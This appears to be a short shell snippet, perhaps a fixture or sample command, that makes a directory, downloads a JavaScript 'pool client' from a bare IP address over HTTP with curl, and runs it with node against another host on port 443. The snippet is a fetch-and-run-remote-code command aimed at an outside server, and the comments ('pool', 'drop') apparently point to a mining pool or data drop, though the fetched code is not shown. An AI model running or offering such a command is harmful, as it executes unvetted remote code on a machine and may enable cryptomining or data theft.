# a downloaded script that is run as node FILE: a pool client in JavaScript
#http 203.0.113.77:8017
#pool 198.51.100.121:443:drop
mkdir -p /opt/app && cd /opt/app && curl -so index.js http://203.0.113.77:8017/pool.js && timeout 14 node index.js 198.51.100.121 443
